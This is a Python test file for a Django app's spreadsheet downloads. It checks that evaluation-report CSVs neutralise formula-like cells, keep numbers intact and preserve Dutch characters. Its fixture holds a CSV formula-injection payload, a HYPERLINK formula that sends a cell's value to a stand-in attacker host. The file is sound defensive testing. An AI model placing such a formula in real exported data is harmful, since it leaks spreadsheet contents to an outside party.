"""Spreadsheet downloads (issue 10, security 6): a text that Excel would run as a formula is
shown as text, numbers stay numbers, and the CSV opens with its Dutch characters intact."""

import csv
import io

import pytest
from django.urls import reverse

from evaluations import services
from leernetwerk.exports import neutralise
from tests.factories import NetworkFactory, make_staff
from tests.factories.evaluations import answer_all, close, make_round

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Klik")'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tverborgen", "'\tverborgen"),
        ("\rregel", "'\rregel"),
        ("-0,40", "-0,40"),
        ("+1.5", "+1.5"),
        ("Jet de Vries", "Jet de Vries"),
        (3, 3),
        ("", ""),
    ],
)
def test_neutralise_quotes_formula_starts_and_keeps_numbers(cell, shown):
    assert neutralise(cell) == shown


@pytest.mark.django_db
def test_report_csv_shows_a_formula_question_as_text_and_starts_with_a_bom(client):
    network = NetworkFactory()
    evaluation = make_round([network], use_template=False, extra_questions=[FORMULA, "Ëerlijk?"])
    answer_all(evaluation, network, [4, 5, 3, 4, 4])
    close(evaluation)
    services.compute_round_scores(evaluation.pk)
    client.force_login(make_staff())
    response = client.get(
        reverse("evaluations:network-report-csv", args=[evaluation.pk, network.slug])
    )
    raw = response.content
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    # The questions' section runs to the first empty row; the response lines follow it.
    section = rows[1 : rows.index([])]
    questions = [row[0] for row in section]
    assert questions == ["'" + FORMULA, "Ëerlijk?"]
    assert rows[0][0] == "Vraag"
